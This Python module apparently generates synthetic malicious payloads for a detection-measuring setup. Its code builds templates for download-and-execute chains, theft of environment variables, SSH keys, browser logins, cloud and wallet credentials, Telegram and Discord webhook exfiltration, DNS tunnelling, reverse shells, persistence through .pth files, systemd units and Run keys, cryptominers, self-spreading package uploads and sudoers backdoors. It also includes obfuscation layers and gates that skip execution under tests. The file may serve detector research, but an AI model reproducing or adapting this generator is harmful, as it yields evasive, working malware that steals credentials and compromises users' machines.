"""Inert Python payloads of the measuring side: other interfaces, other shapes and other ways to hide than payload_py.py.

Strings, module names and variables come from the Payload (payload_py.py), so hiding works as it does
there.  A family returns statements at the left margin.
"""

import base64
import bz2
import lzma
import random

FAMILIES = {}
GATES = ["", "", "", "", "machine", "later", "home", "not-tests"]
WRAPS = ["suppressed", "suppressed", "class", "decorated", "at-exit", "lambda", "timer"]
STRING_STYLES = ["formatted", "shifted", "rot13", "base85", "percent", "shuffled", "translated", "byte-list"]
CODE_STYLES = ["code-lzma", "code-bz2", "code-compiled", "code-rows"]


def family(purpose):
    def add(make):
        FAMILIES.setdefault(purpose, []).append(make)
        return make
    return add


# ---- fetching and sending -------------------------------------------------------------------------

def fetched(p):
    """(lines before, expression of bytes)"""
    way = p.pick("client", "opener", "pool", "session", "child", "raw")
    got = p.n("reply")
    if way == "client":
        c = p.n("conn")
        return ["%s = %s.HTTPSConnection(%s, timeout=8)" % (c, p.mod("http.client"), p.h(p.host)),
                "%s.request(%s, %s)" % (c, p.s("GET"), p.s(p.path)), "%s = %s.getresponse().read()" % (got, c)], got
    if way == "opener":
        r = p.mod("urllib.request")
        return ["%s = %s.build_opener(%s.HTTPRedirectHandler).open(%s, timeout=9).read()" % (got, r, r, p.h(p.url))], got
    if way == "pool":
        return ["%s = %s.PoolManager(retries=1).request(%s, %s).data" % (got, p.mod("urllib3"), p.s("GET"), p.h(p.url))], got
    if way == "session":
        c = p.n("session")
        return ["with %s.Session() as %s:" % (p.mod("requests"), c),
                "    %s = %s.get(%s, timeout=6).content" % (got, c, p.h(p.url))], got
    if way == "child":
        return ["%s = %s.check_output([%s, %s, %s])" % (got, p.mod("subprocess"), p.s("curl"), p.s("-fsL"), p.h(p.url))], got
    c, f = p.n("sock"), p.n("stream")
    return ["%s = %s.create_connection((%s, %d), 7)" % (c, p.mod("socket"), p.h(p.host), p.port),
            "with %s.makefile(%s) as %s:" % (c, p.s("rb"), f), "    %s = %s.read()" % (got, f)], got


def sent(p, data):
    """Statements that send an expression of text."""
    way = p.pick("client", "xmlrpc", "smtp", "tls", "child", "pool", "header", "aiohttp")
    if way == "client":
        c = p.n("conn")
        return ["%s = %s.HTTPSConnection(%s)" % (c, p.mod("http.client"), p.h(p.host)),
                "%s.request(%s, %s, body=%s.encode())" % (c, p.s("PUT"), p.s(p.path), data), "%s.getresponse()" % c]
    if way == "xmlrpc":
        return ["%s.ServerProxy(%s).%s(%s)" % (p.mod("xmlrpc.client"), p.h(p.url), p.pick("report", "log", "put"), data)]
    if way == "smtp":
        c = p.n("mail")
        return ["with %s.SMTP(%s, 587) as %s:" % (p.mod("smtplib"), p.h(p.host), c),
                "    %s.sendmail(%s, [%s], %s)" % (c, p.s("build@" + p.host), p.h("inbox@" + p.host), data)]
    if way == "tls":
        c, s = p.n("sock"), p.mod("ssl")
        return ["%s = %s.create_default_context().wrap_socket(%s.create_connection((%s, 443)), server_hostname=%s)" % (
            c, s, p.mod("socket"), p.h(p.host), p.h(p.host)), "%s.sendall(%s.encode())" % (c, data)]
    if way == "child":
        return ["%s.run([%s, %s, %s, %s], input=%s, text=True, capture_output=True)" % (
            p.mod("subprocess"), p.s("curl"), p.s("-d"), p.s("@-"), p.h(p.url), data)]
    if way == "pool":
        return ["%s.PoolManager().request(%s, %s, fields={%s: %s})" % (
            p.mod("urllib3"), p.s("GET"), p.h(p.url), p.s("v"), data)]
    if way == "header":
        r = p.mod("urllib.request")
        return ["%s.urlopen(%s.Request(%s, headers={%s: %s.b64encode(%s.encode()).decode()}))" % (
            r, r, p.h(p.url), p.s("X-Trace"), p.mod("base64"), data)]
    f, c = p.n("push"), p.n("client")
    return ["async def %s():" % f, "    async with %s.ClientSession() as %s:" % (p.mod("aiohttp"), c),
            "        await %s.post(%s, data=%s)" % (c, p.h(p.url), data), "%s.run(%s())" % (p.mod("asyncio"), f)]


# ---- download and run -----------------------------------------------------------------------------

@family("download-run")
def spec_loaded(p):
    lines, got = fetched(p)
    path, spec, made, util = p.n("path"), p.n("spec"), p.n("mod"), p.mod("importlib.util")
    return lines + ["%s = %s.mkstemp(suffix=%s)[1]" % (path, p.mod("tempfile"), p.s(".py")),
        "open(%s, %s).write(%s)" % (path, p.s("wb"), got),
        "%s = %s.spec_from_file_location(%s, %s)" % (spec, util, p.s("compat"), path),
        "%s = %s.module_from_spec(%s)" % (made, util, spec), "%s.loader.exec_module(%s)" % (spec, made)]


@family("download-run")
def path_run(p):
    lines, got = fetched(p)
    path = p.n("path")
    return lines + ["%s = %s.Path(%s.gettempdir()) / %s" % (path, p.mod("pathlib"), p.mod("tempfile"), p.s(".cache-%d" % p.port)),
        "%s.write_bytes(%s)" % (path, got), "%s.run_path(str(%s), run_name=%s)" % (p.mod("runpy"), path, p.s("__main__"))]


@family("download-run")
def function_built(p):
    lines, got = fetched(p)
    code = p.n("code")
    return lines + ["%s = compile(%s, %s, %s)" % (code, got, p.s("<frozen>"), p.s("exec")),
        "%s.FunctionType(%s, {%s: __builtins__})()" % (p.mod("types"), code, p.s("__builtins__"))]


@family("download-run")
def library_loaded(p):
    lines, got = fetched(p)
    f = p.n("tmp")
    return lines + ["with %s.NamedTemporaryFile(suffix=%s, delete=False) as %s:" % (p.mod("tempfile"), p.s(".so"), f),
        "    %s.write(%s)" % (f, got), "%s.CDLL(%s.name)" % (p.mod("ctypes"), f)]


@family("download-run")
def zip_imported(p):
    lines, got = fetched(p)
    path, o = p.n("path"), p.mod("os")
    return lines + ["%s = %s.path.join(%s.path.expanduser(%s), %s)" % (path, o, o, p.s("~"), p.s(".pycache.zip")),
        "with open(%s, %s) as %s:" % (path, p.s("wb"), p.n("out")), "    %s.write(%s)" % (p.last, got),
        "%s.path.insert(0, %s)" % (p.mod("sys"), path), "__import__(%s)" % p.s("bootstrap")]


@family("download-run")
def client_asked(p):
    return ["%s.check_call([%s.executable, %s, %s, %s, %s, %s, %s])" % (p.mod("subprocess"), p.mod("sys"), p.s("-m"),
        p.s("pip"), p.s("install"), p.s("--index-url"), p.h(p.url), p.s("wheel-compat"))]


@family("download-run")
def piped_in(p):
    lines, got = fetched(p)
    sub = p.mod("subprocess")
    return lines + ["%s.Popen([%s.executable, %s], stdin=%s.PIPE).communicate(%s)" % (sub, p.mod("sys"), p.s("-"), sub, got)]


@family("download-run")
def replaced_image(p):
    lines, got = fetched(p)
    path, o = p.s("/tmp/.font-unix%d" % p.port), p.mod("os")
    fd = p.n("fd")
    return lines + ["%s = %s.open(%s, %s.O_CREAT | %s.O_WRONLY, 0o755)" % (fd, o, path, o, o),
        "%s.write(%s, %s)" % (o, fd, got), "%s.close(%s)" % (o, fd),
        "%s.fork() or %s.execv(%s, [%s])" % (o, o, path, path)]


@family("download-run")
def module_filled(p):
    lines, got = fetched(p)
    made = p.n("mod")
    return lines + ["%s = %s.ModuleType(%s)" % (made, p.mod("types"), p.s("_accel")),
        "getattr(%s, %s)(%s, %s.__dict__)" % (p.mod("builtins"), p.s("exec"), got, made)]


@family("download-run")
def unpickled(p):
    lines, got = fetched(p)
    return lines + ["%s.loads(%s)" % (p.mod("pickle"), got)]


@family("download-run")
def shell_line(p):
    return ["%s.popen(%s).close()" % (p.mod("os"), p.h("wget -qO- %s | python3 -" % p.url))]


@family("download-run")
def other_process(p):
    lines, got = fetched(p)
    return lines + ["%s.Process(target=exec, args=(%s,), daemon=True).start()" % (p.mod("multiprocessing"), got)]


# ---- collecting -----------------------------------------------------------------------------------

@family("exfil-environment")
def whole_copy(p):
    x = p.n("state")
    return ["%s = %s.dumps(%s.environ.copy())" % (x, p.mod("json"), p.mod("os"))] + sent(p, x)


@family("exfil-environment")
def chosen_names(p):
    x, k = p.n("state"), p.n("key")
    return ["%s = repr([(%s, %s.getenv(%s)) for %s in %s.environ if any(w in %s for w in (%s, %s, %s))])" % (
        x, k, p.mod("os"), k, k, p.mod("os"), k, p.s("TOKEN"), p.s("SECRET"), p.s("KEY"))] + sent(p, x)


@family("exfil-environment")
def from_proc(p):
    x = p.n("state")
    return ["%s = %s.Path(%s).read_text()" % (x, p.mod("pathlib"), p.s("/proc/self/environ"))] + sent(p, x)


@family("exfil-environment")
def printed(p):
    x = p.n("state")
    return ["%s = %s.getoutput(%s)" % (x, p.mod("subprocess"), p.s("printenv"))] + sent(p, x)


@family("exfil-environment")
def gathered(p):
    x, o = p.n("lines"), p.mod("os")
    return ["%s = []" % x, "for %s in sorted(%s.environ.items()):" % (p.n("item"), o), "    %s.append(%s.join(%s))" % (
        x, p.s("="), p.last)] + sent(p, "%s.join(%s)" % (p.s("\n"), x))


@family("exfil-files")
def archived(p):
    x, t = p.n("box"), p.n("tar")
    return ["%s = %s.BytesIO()" % (x, p.mod("io")), "with %s.open(fileobj=%s, mode=%s) as %s:" % (p.mod("tarfile"), x, p.s("w:gz"), t),
        "    %s.add(%s.path.expanduser(%s))" % (t, p.mod("os"), p.s(p.pick("~/.ssh", "~/.aws", "~/.gnupg")))] + sent(
            p, "%s.getvalue().hex()" % x)


@family("exfil-files")
def walked(p):
    x, r, f, o = p.n("found"), p.n("root"), p.n("name"), p.mod("os")
    return ["%s = {}" % x, "for %s, _, %s in %s.walk(%s.path.expanduser(%s)):" % (r, f + "s", o, o, p.s("~")),
        "    for %s in %s:" % (f, f + "s"), "        if %s.endswith((%s, %s, %s)):" % (f, p.s(".pem"), p.s(".env"), p.s(".kdbx")),
        "            %s[%s] = open(%s.path.join(%s, %s), errors=%s).read()" % (x, f, o, r, f, p.s("replace"))] + sent(
            p, "%s.dumps(%s)" % (p.mod("json"), x))


@family("exfil-files")
def home_paths(p):
    x, h = p.n("texts"), p.n("home")
    return ["%s = %s.Path.home()" % (h, p.mod("pathlib")),
        "%s = [(%s / n).read_text() for n in (%s, %s, %s) if (%s / n).exists()]" % (
            x, h, p.s(".npmrc"), p.s(".docker/config.json"), p.s(".netrc"), h)] + sent(p, "%s.join(%s)" % (p.s("\n"), x))


@family("exfil-files")
def globbed(p):
    x = p.n("texts")
    return ["%s = str({n: open(n).read() for n in %s.glob(%s.path.expanduser(%s))})" % (
        x, p.mod("glob"), p.mod("os"), p.s(p.pick("~/.ssh/id_*", "~/.kube/*", "~/.config/gcloud/*.json")))] + sent(p, x)


@family("credential-stores")
def keyring_asked(p):
    x, k = p.n("word"), p.mod("keyring")
    return ["%s = str(%s.get_credential(%s, None))" % (x, k, p.s("https://upload.%s/legacy/" % p.host))] + sent(p, x)


@family("credential-stores")
def login_table(p):
    x, c, d = p.n("rows"), p.n("db"), p.n("copy")
    return ["%s = %s.copy(%s.path.expanduser(%s), %s.mkdtemp())" % (d, p.mod("shutil"), p.mod("os"), p.s(
        p.pick("~/.config/google-chrome/Default/Login Data", "~/Library/Application Support/Google/Chrome/Default/Cookies")), p.mod("tempfile")),
        "%s = %s.connect(%s)" % (c, p.mod("sqlite3"), d),
        "%s = repr(%s.execute(%s).fetchall())" % (x, c, p.s("SELECT origin_url, username_value, password_value FROM logins"))] + sent(p, x)


@family("credential-stores")
def account_token(p):
    x = p.n("token")
    return ["with open(%s) as %s:" % (p.s("/var/run/secrets/kubernetes.io/serviceaccount/token"), p.n("f")),
        "    %s = %s.read()" % (x, p.last)] + sent(p, x)


@family("credential-stores")
def wallet_files(p):
    x, o = p.n("keys"), p.mod("os")
    return ["%s = %s" % (x, p.s("")), "for %s in (%s, %s, %s):" % (p.n("name"), p.s(".config/solana/id.json"),
        p.s(".electrum/wallets/default_wallet"), p.s(".ethereum/keystore")), "    %s = %s.path.join(%s.path.expanduser(%s), %s)" % (
        p.n("full"), o, o, p.s("~"), p.names[-2]), "    if %s.path.isfile(%s):" % (o, p.last),
        "        %s += open(%s, errors=%s).read()" % (x, p.last, p.s("ignore"))] + sent(p, x)


@family("chat-webhook")
def chat_document(p):
    x = p.n("text")
    return ["%s = %s.getoutput(%s)" % (x, p.mod("subprocess"), p.s(p.pick("id; hostname; env", "whoami && printenv"))),
        "%s.Session().post(%s, files={%s: (%s, %s)})" % (p.mod("requests"), p.h(
            "https://%s/bot%d:AA%s/sendDocument?chat_id=%d" % (p.host, 7000000 + p.port, "x" * 30, p.port)),
            p.s("document"), p.s("log.txt"), x)]


@family("chat-webhook")
def chat_embed(p):
    c = p.n("conn")
    return ["%s = %s.HTTPSConnection(%s)" % (c, p.mod("http.client"), p.h(p.host)),
        "%s.request(%s, %s, %s.dumps({%s: [{%s: str(dict(%s.environ))}]}), {%s: %s})" % (c, p.s("POST"),
            p.s("/api/webhooks/%d/%s" % (10 ** 17 + p.port, "k" * 40)), p.mod("json"), p.s("embeds"), p.s("description"),
            p.mod("os"), p.s("Content-Type"), p.s("application/json"))]


@family("dns-names")
def asked_in_pieces(p):
    x, s = p.n("hexed"), p.mod("socket")
    return ["%s = %s.node().encode().hex() + %s.getuser().encode().hex()" % (x, p.mod("platform"), p.mod("getpass")),
        "for %s in range(0, len(%s), 50):" % (p.n("i"), x), "    %s.getaddrinfo(%s[%s:%s + 50] + %s, 80)" % (
            s, x, p.last, p.last, p.h("." + p.host))]


@family("dns-names")
def asked_by_tool(p):
    o = p.mod("os")
    return ["for %s in %s.environ:" % (p.n("key"), o), "    %s.run([%s, %s.environ[%s].encode().hex()[:60] + %s])" % (
        p.mod("subprocess"), p.s("nslookup"), o, p.last, p.h("." + p.host))]


@family("reverse-shell")
def terminal(p):
    c, o = p.n("sock"), p.mod("os")
    return ["%s = %s.create_connection((%s, %d))" % (c, p.mod("socket"), p.h(p.host), p.port),
        "for %s in range(3):" % p.n("fd"), "    %s.dup2(%s.fileno(), %s)" % (o, c, p.last), "%s.spawn(%s)" % (p.mod("pty"), p.s("/bin/bash"))]


@family("reverse-shell")
def streamed(p):
    f, r, w, a, q = p.n("serve"), p.n("rd"), p.n("wr"), p.mod("asyncio"), p.n("proc")
    return ["async def %s():" % f, "    %s, %s = await %s.open_connection(%s, %d)" % (r, w, a, p.h(p.host), p.port), "    while True:",
        "        %s = await %s.create_subprocess_shell((await %s.readline()).decode(), stdout=%s.subprocess.PIPE)" % (q, a, r, a),
        "        %s.write((await %s.communicate())[0])" % (w, q), "%s.run(%s())" % (a, f)]


@family("reverse-shell")
def interpreter(p):
    c, i, f = p.n("sock"), p.n("shell"), p.n("stream")
    return ["%s = %s.socket()" % (c, p.mod("socket")), "%s.connect((%s, %d))" % (c, p.h(p.host), p.port),
        "%s = %s.InteractiveInterpreter()" % (i, p.mod("code")), "%s = %s.makefile()" % (f, c),
        "for %s in %s:" % (p.n("line"), f), "    %s.runsource(%s)" % (i, p.last)]


@family("persistence")
def path_file(p):
    o = p.mod("os")
    return ["with open(%s.path.join(%s.getusersitepackages(), %s), %s) as %s:" % (o, p.mod("site"), p.s("distutils-precedence.pth"), p.s("w"), p.n("f")),
        "    %s.write(%s)" % (p.last, p.h("import urllib.request as r; exec(r.urlopen('%s').read())\n" % p.url))]


@family("persistence")
def user_unit(p):
    u, sub = p.n("unit"), p.mod("subprocess")
    return ["%s = %s.Path.home() / %s" % (u, p.mod("pathlib"), p.s(".config/systemd/user/dbus-cache.service")),
        "%s.write_text(%s)" % (u, p.h("[Service]\nExecStart=/bin/sh -c 'curl -s %s | sh'\n[Install]\nWantedBy=default.target\n" % p.url)),
        "%s.call([%s, %s, %s, %s])" % (sub, p.s("systemctl"), p.s("--user"), p.s("enable"), p.s("dbus-cache.service"))]


@family("persistence")
def run_key(p):
    k, w = p.n("key"), p.mod("winreg")
    return ["%s = %s.CreateKey(%s.HKEY_CURRENT_USER, %s)" % (k, w, w, p.s("Software\\Microsoft\\Windows\\CurrentVersion\\Run")),
        "%s.SetValueEx(%s, %s, 0, %s.REG_SZ, %s)" % (w, k, p.s("Updater"), w, p.h("powershell -w hidden -c \"iwr %s | iex\"" % p.url))]


@family("beacon")
def timer(p):
    f, c = p.n("pulse"), p.n("conn")
    return ["def %s():" % f, "    %s = %s.HTTPConnection(%s)" % (c, p.mod("http.client"), p.h(p.host)),
        "    %s.request(%s, %s %% %s.getnode())" % (c, p.s("GET"), p.s("/p?i=%d"), p.mod("uuid")),
        "    eval(%s.getresponse().read() or %s)" % (c, p.s("0")),
        "    %s.Timer(%d, %s).start()" % (p.mod("threading"), p.pick(300, 1800, 3600), f), "%s()" % f]


@family("beacon")
def scheduled(p):
    f, s = p.n("pulse"), p.n("plan")
    lines, got = fetched(p)
    return ["%s = %s.scheduler()" % (s, p.mod("sched")), "def %s():" % f] + ["    " + line for line in lines] + [
        "    %s.run(%s.decode().split())" % (p.mod("subprocess"), got), "    %s.enter(900, 1, %s)" % (s, f),
        "%s.enter(60, 1, %s)" % (s, f), "%s.run(blocking=False)" % s]


@family("miner")
def pool_arguments(p):
    lines, got = fetched(p)
    path = p.n("path")
    return lines + ["%s = %s.Path(%s)" % (path, p.mod("pathlib"), p.s("/tmp/.kworker")), "%s.write_bytes(%s)" % (path, got),
        "%s.chmod(0o700)" % path, "%s.Popen([str(%s), %s, %s, %s, %s])" % (p.mod("subprocess"), path, p.s("-o"),
            p.h("stratum+tcp://%s:3333" % p.host), p.s("-u"), p.s("4" + "B" * 94))]


@family("self-publish")
def uploaded(p):
    sub, o = p.mod("subprocess"), p.mod("os")
    return ["if %s.path.exists(%s.path.expanduser(%s)):" % (o, o, p.s("~/.pypirc")),
        "    for %s in %s.Path(%s).rglob(%s):" % (p.n("mod"), p.mod("pathlib"), p.s("."), p.s("__init__.py")),
        "        %s.write_text(%s.read_text() + open(__file__).read())" % (p.last, p.last),
        "    %s.run([%s, %s, %s], shell=False)" % (sub, p.s("twine"), p.s("upload"), p.s("dist/*"))]


@family("wallet-swap")
def clipboard_window(p):
    t, x = p.n("top"), p.n("text")
    return ["%s = %s.Tk()" % (t, p.mod("tkinter")), "%s = %s.clipboard_get()" % (x, t),
        "if %s.fullmatch(%s, %s):" % (p.mod("re"), p.s("0x[0-9a-fA-F]{40}"), x), "    %s.clipboard_clear()" % t,
        "    %s.clipboard_append(%s)" % (t, p.s("0x" + "5e" * 20))]


@family("permissions")
def key_added(p):
    o = p.mod("os")
    return ["with open(%s.path.expanduser(%s), %s) as %s:" % (o, p.s("~/.ssh/authorized_keys"), p.s("a"), p.n("f")),
        "    %s.write(%s)" % (p.last, p.s("\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI%s build\n" % ("x" * 43)))]


@family("permissions")
def sudo_rule(p):
    return ["%s.Path(%s).write_text(%s)" % (p.mod("pathlib"), p.s("/etc/sudoers.d/90-cloud"), p.s("ALL ALL=(ALL) NOPASSWD:ALL\n"))]


# ---- hiding ---------------------------------------------------------------------------------------

def string(p, style, text):
    """An expression whose value is `text`."""
    rng, data = p.rng, text.encode()
    if style == "formatted":
        cut = max(1, len(text) // 2)
        return "'{}{}'.format(%r, %r)" % (text[:cut], text[cut:]) if rng.random() < 0.5 else "'%%s%%s' %% (%r, %r)" % (text[:cut], text[cut:])
    if style == "shifted":
        n = rng.randrange(1, 9)
        return "''.join(map(lambda c: chr(ord(c) - %d), %r))" % (n, "".join(chr(ord(c) + n) for c in text))
    if style == "rot13":
        import codecs
        return "%s.decode(%r, 'rot13')" % (p.mod("codecs"), codecs.encode(text, "rot13"))
    if style == "base85":
        return "%s.b85decode(%r).decode()" % (p.mod("base64"), base64.b85encode(data).decode())
    if style == "percent":
        return "%s.unquote(%r)" % (p.mod("urllib.parse"), "".join("%%%02x" % b for b in data))
    if style == "shuffled":
        order = list(range(len(text)))
        random.Random(p.port).shuffle(order)
        return "''.join(c for _, c in sorted(zip(%r, %r)))" % (order, "".join(text[i] for i in order))
    if style == "translated":
        a, b = "abcdefghijklmnopqrstuvwxyz", "qwertyuiopasdfghjklzxcvbnm"
        return "%r.translate(str.maketrans(%r, %r))" % (text.translate(str.maketrans(b, a)), a, b)
    return "bytearray(%r).decode()" % (tuple(data),) if len(data) > 1 else repr(text)


def code(p, style, text):
    """Statements that run `text`."""
    if style == "code-lzma":
        return "exec(%s.decompress(%s.b85decode(%r)))" % (p.mod("lzma"), p.mod("base64"), base64.b85encode(lzma.compress(text.encode())).decode())
    if style == "code-bz2":
        return "eval(compile(%s.decompress(bytes.fromhex(%r)), '<string>', 'exec'))" % (p.mod("bz2"), bz2.compress(text.encode()).hex())
    if style == "code-compiled":
        return "getattr(__import__('builtins'), 'ex' + 'ec')(%s.unhexlify(%r))" % (p.mod("binascii"), text.encode().hex())
    coded, rows = base64.b64encode(text.encode()).decode(), p.n("rows")
    parts = [coded[i:i + 64] for i in range(0, len(coded), 64)]
    return "%s = [\n%s]\nexec(%s.b64decode(''.join(%s)).decode())" % (
        rows, "".join("    %r,\n" % x for x in parts), p.mod("base64"), rows)


def gate(p, kind):
    """A condition, or none."""
    if kind == "machine":
        return "%s.system() == %s" % (p.mod("platform"), p.s(p.pick("Linux", "Darwin", "Windows")))
    if kind == "later":
        return "%s.time() > %d" % (p.mod("time"), 1790000000 + p.port * 100)
    if kind == "home":
        return "%s.path.isdir(%s.path.expanduser(%s))" % (p.mod("os"), p.mod("os"), p.s("~/.config"))
    if kind == "not-tests":
        return "%s not in %s.modules" % (p.s("pytest"), p.mod("sys"))
    return ""


def wrap(p, way, lines):
    """The body as it runs when its module is loaded."""
    body = ["    " + x for x in lines]
    name = p.n("setup")
    if way == "suppressed":
        return ["with %s.suppress(Exception):" % p.mod("contextlib")] + body
    if way == "class":
        return ["class %s:" % name.title().replace("_", ""), "    def __init__(self):"] + ["    " + x for x in body] + \
            ["%s()" % name.title().replace("_", "")]
    if way == "decorated":
        f = p.n("init")
        return ["def %s(fn):" % name, "    try:", "        fn()", "    except Exception:", "        return fn", "    return fn",
            "@%s" % name, "def %s():" % f] + body
    if way == "at-exit":
        return ["def %s():" % name] + body + ["%s.register(%s)" % (p.mod("atexit"), name)]
    if way == "timer":
        return ["def %s():" % name] + body + ["%s.Timer(2, %s).start()" % (p.mod("threading"), name)]
    return ["def %s(_=None):" % name] + body + ["(lambda f: f())(%s)" % name]
